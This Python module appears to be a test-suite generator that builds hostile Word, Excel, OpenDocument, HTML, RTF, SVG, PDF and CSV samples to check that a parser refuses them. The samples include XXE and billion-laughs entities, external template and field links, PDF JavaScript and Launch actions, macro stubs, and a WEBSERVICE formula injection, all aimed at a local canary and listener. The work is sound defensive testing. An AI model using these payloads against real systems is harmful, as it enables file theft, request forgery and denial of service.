"""Files that try to do harm: entities that read or grow, links that call out, PDFs that want to act.

Each speaks of a canary, a file with a secret in it, and of an address on this machine where somebody listens. Neither
may be touched, and the file is refused or its visible text is read: it never comes out silently empty.
"""

import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pikepdf

from benchmarks import samples
from benchmarks.broken_files import Made
from tests.parsers.formats.make_word import p, r, root, word_parts

_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True, slots=True)
class Trap:
    """What a harmful file points at: a file on this machine and an address on which somebody listens."""

    canary: Path
    port: int

    @property
    def addresses(self) -> tuple[str, ...]:
        """Ways to write the two."""
        return (
            self.canary.as_uri(),
            str(self.canary),
            f"http://127.0.0.1:{self.port}/x",
            f"http://localhost:{self.port}/x.dtd",
            f"ftp://127.0.0.1:{self.port}/x",
            f"\\\\127.0.0.1@{self.port}\\x\\y.dotx",
            f"//127.0.0.1:{self.port}/x",
        )


HarmMaker = Callable[[random.Random, Trap], Made]


def _doctype(chance: random.Random, trap: Trap) -> tuple[str, str]:
    """A document type, and what calls on its entity."""
    where = chance.choice(trap.addresses)
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return chance.choice(
        (
            (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{where}">]>', "&e;"),
            (f'<!DOCTYPE x SYSTEM "{where}">', ""),
            (f'<!DOCTYPE x PUBLIC "-//A//B" "{where}">', ""),
            (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{where}"> %p;]>', "&e;"),
            (f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', "&l9;"),
            (f'<!DOCTYPE x [<!ENTITY e "{"A" * 200_000}">]>', "&e;" * 2000),
            (f'<!DOCTYPE x [<!ENTITY e "{samples.VISIBLE}">]>', "&e;"),
            ("<!DOCTYPE x>", ""),
            (f'<?xml-stylesheet type="text/xsl" href="{where}"?>', ""),
        )
    )


def _with_doctype(xml: bytes, chance: random.Random, trap: Trap) -> bytes:
    """An XML part with a document type, in one of the encodings that hide it from a plain search."""
    doctype, call = _doctype(chance, trap)
    text = xml.decode("utf-8")
    _head, _, rest = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
    start, end = rest.rfind(">", 0, rest.find("</")), rest.find("</")
    body = rest[: start + 1] + call + rest[start + 1 :] if end > 0 else rest
    encoding = chance.choice(("utf-8", "utf-8", "utf-8-sig", "utf-16", "utf-16-be", "utf-7", "utf-32"))
    declared = {"utf-8-sig": "utf-8"}.get(encoding, encoding.removesuffix("-be")).upper()
    return (f'<?xml version="1.0" encoding="{declared}"?>' + doctype + body).encode(encoding)


def entities(chance: random.Random, trap: Trap) -> Made:
    """A document type in some part of a Word, Excel or OpenDocument file."""
    name, data, parts = chance.choice(
        (
            ("xxe.docx", samples.word(), ("word/document.xml", "_rels/.rels", "[Content_Types].xml", "word/_rels/document.xml.rels")),
            ("xxe.xlsx", samples.excel(), ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "docProps/core.xml", "xl/styles.xml", "_rels/.rels")),
            ("xxe.odt", samples.open_document(), ("content.xml", "styles.xml", "meta.xml", "META-INF/manifest.xml")),
        )
    )  # fmt: skip
    chosen = chance.choice(parts)
    with zipfile.ZipFile(io.BytesIO(data)) as made:
        found = {n: made.read(n) for n in made.namelist()}
    found[chosen] = _with_doctype(found[chosen], chance, trap)
    return name, samples.zipped(found)


def entities_in_text(chance: random.Random, trap: Trap) -> Made:
    """The same in a page of HTML, in Word's flat XML, in a picture's description."""
    doctype, call = _doctype(chance, trap)
    kind = chance.randrange(3)
    if kind == 0:
        return "xxe.html", (
            doctype.replace("<!DOCTYPE x", "<!DOCTYPE html", 1)
            + f"<html><body><p>{samples.VISIBLE}{call}</p></body></html>"
        ).encode()
    if kind == 1:
        body = root("document", f"<w:body>{p(samples.VISIBLE)}</w:body>").partition("?>")[2]
        return "xxe.xml", f'<?xml version="1.0"?>{doctype}{body}'.encode()
    return (
        "xxe.svg",
        f'<?xml version="1.0"?>{doctype}<svg xmlns="http://www.w3.org/2000/svg"><text>{samples.VISIBLE}{call}</text></svg>'.encode(),
    )


def _linked_word(chance: random.Random, trap: Trap) -> Made:
    """A Word file whose template, picture, chunk, object or frame lies elsewhere."""
    where = chance.choice(trap.addresses).replace("&", "&amp;")
    kind = chance.choice(
        ("attachedTemplate", "image", "aFChunk", "oleObject", "subDocument", "frame", "hyperlink", "mailMergeSource")
    )
    inside = {
        "aFChunk": '<w:altChunk r:id="x1"/>',
        "image": p(
            '<w:r><w:drawing><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="x1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></w:drawing></w:r>'
        ),
        "oleObject": p('<w:r><w:object><o:OLEObject Type="Link" r:id="x1"/></w:object></w:r>'),
        "subDocument": '<w:subDoc r:id="x1"/>',
        "hyperlink": p('<w:hyperlink r:id="x1">' + r("link") + "</w:hyperlink>"),
    }.get(kind, "")
    field = p(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "{where}" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    parts = word_parts(samples.word_body() + inside + field)
    owner = "word/_rels/settings.xml.rels" if kind == "attachedTemplate" else "word/_rels/document.xml.rels"
    mode = chance.choice(
        (' TargetMode="External"', ' TargetMode="External"', "")
    )  # some leave out that it lies elsewhere
    links = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="x1" Type="{_OFFICE}/{kind}" Target="{where}"{mode}/>'
    )
    if kind == "attachedTemplate":
        links += "</Relationships>"
        parts["word/settings.xml"] = root("settings", '<w:attachedTemplate r:id="x1"/>').encode()
        parts["word/_rels/document.xml.rels"] = (
            f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="s" Type="{_OFFICE}/settings" Target="settings.xml"/></Relationships>'
        ).encode()
    else:
        links += "</Relationships>"
    parts[owner] = links.encode()
    return f"linked{chance.choice(('.docx', '.docm', '.dotx'))}", samples.zipped(parts)


def _linked_text(chance: random.Random, trap: Trap) -> Made:
    """HTML, rich text, a mail or an OpenDocument text that asks for something from elsewhere."""
    where = chance.choice(trap.addresses)
    kind = chance.randrange(4)
    html = (
        f'<html><head><link rel="stylesheet" href="{where}"><script src="{where}"></script><base href="{where}"></head><body>'
        f'<p>{samples.VISIBLE}</p><img src="{where}"><iframe src="{where}"></iframe><object data="{where}"></object></body></html>'
    )
    if kind == 0:
        return "linked.html", html.encode()
    if kind == 1:
        return (
            "linked.eml",
            f"From: a@b.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{html}".encode(),
        )
    if kind == 2:
        slashed = where.replace("\\", "\\\\")
        return "linked.rtf", (
            "{\\rtf1\\ansi{\\*\\template " + slashed + "}\\pard " + samples.VISIBLE + "\\par{\\field{\\*\\fldinst{INCLUDEPICTURE \""
            + slashed + "\"}}{\\fldrslt}}{\\object\\objautlink{\\*\\objdata 0105}}{\\*\\objclass Package}\\par}"
        ).encode()  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(samples.open_document())) as made:
        found = {n: made.read(n) for n in made.namelist()}
    link = f'<text:section text:name="s"><text:section-source xlink:href="{where}"/></text:section><text:p><draw:frame><draw:image xlink:href="{where}"/></draw:frame></text:p>'
    found["content.xml"] = found["content.xml"].replace(b"</office:text>", link.encode() + b"</office:text>")
    return "linked.odt", samples.zipped(found)


def links(chance: random.Random, trap: Trap) -> Made:
    """Something from elsewhere is asked for."""
    return _linked_word(chance, trap) if chance.random() < 0.6 else _linked_text(chance, trap)


def actions(chance: random.Random, trap: Trap) -> Made:
    """A PDF with a script, a program to start, an address to call, a form to send, a stream that lies in another file."""
    where = chance.choice(trap.addresses)
    kind = chance.choice(("JavaScript", "Launch", "URI", "SubmitForm", "GoToR", "ImportData", "file stream"))
    name, data = chance.choice([s for s in samples.example_samples().items() if s[0].endswith(".pdf")])
    stream = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        if kind == "file stream":
            outside = pdf.make_stream(b"", F=pikepdf.String(where), FFilter=pikepdf.Name("/ASCIIHexDecode"))
            pdf.pages[0].Contents = pikepdf.Array([*_contents(pdf), outside])
        else:
            action = pikepdf.Dictionary(
                S=pikepdf.Name(f"/{kind}"),
                JS=pikepdf.String(f"app.launchURL('{where}')"),
                URI=pikepdf.String(where),
                F=pikepdf.String(where),
            )
            pdf.Root.OpenAction = pdf.make_indirect(action)
            pdf.Root.Names = pikepdf.Dictionary(
                JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), pdf.Root.OpenAction]))
            )
            note = pikepdf.Dictionary(
                Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"), Rect=[0, 0, 9, 9], A=pdf.Root.OpenAction
            )
            pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(note)])
        pdf.save(stream)
    return f"{kind} {name}", stream.getvalue()


def _contents(pdf: pikepdf.Pdf) -> list[pikepdf.Object]:
    found = pdf.pages[0].Contents
    return list(found) if isinstance(found, pikepdf.Array) else [found]


def macros(chance: random.Random, trap: Trap) -> Made:
    """A document with a macro project and with an embedded program."""
    parts = word_parts(samples.word_body())
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(3000)
    parts["word/embeddings/oleObject1.bin"] = b"MZ" + chance.randbytes(900)
    parts["word/_rels/document.xml.rels"] = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="v" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        f'<Relationship Id="o" Type="{_OFFICE}/oleObject" Target="embeddings/oleObject1.bin"/></Relationships>'
    ).encode()
    formula = samples.separated() + f'\r\n13/03/2024,"=WEBSERVICE(""{trap.addresses[2]}"")",x'.encode()
    return chance.choice((("macro.docm", samples.zipped(parts)), ("formula.csv", formula)))
